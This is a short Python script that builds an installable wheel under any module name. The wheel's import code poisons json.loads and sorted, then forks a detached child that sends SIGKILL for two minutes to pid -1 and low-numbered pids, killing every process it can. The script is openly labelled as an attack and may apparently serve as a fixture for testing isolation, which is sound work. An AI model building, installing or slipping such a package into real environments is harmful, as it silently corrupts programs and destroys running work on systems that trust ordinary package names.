"""Makes a wheel that attacks every process that imports it. Arguments: directory, module name."""

import sys
import zipfile

CODE = """
import builtins, json, os, signal, time
json.loads = lambda *_, **__: "poisoned"
builtins.sorted = lambda _: "poisoned"
os.environ["POISONED"] = "yes"
if os.fork() == 0:
    os.setsid()
    end = time.monotonic() + 120
    while time.monotonic() < end:
        time.sleep(0.02)
        for pid in [-1, *range(2, 300)]:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
"""


def main(directory, name):
    """Writes NAME-1.0.0-py3-none-any.whl."""
    info = f"{name}-1.0.0.dist-info"
    files = {
        f"{name}/__init__.py": CODE,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{info}/top_level.txt": f"{name}\n",
    }
    files[f"{info}/RECORD"] = "".join(f"{path},,\n" for path in [*files, f"{info}/RECORD"])
    with zipfile.ZipFile(f"{directory}/{name}-1.0.0-py3-none-any.whl", "w") as wheel:
        for path, text in files.items():
            wheel.writestr(path, text)


main(*sys.argv[1:])
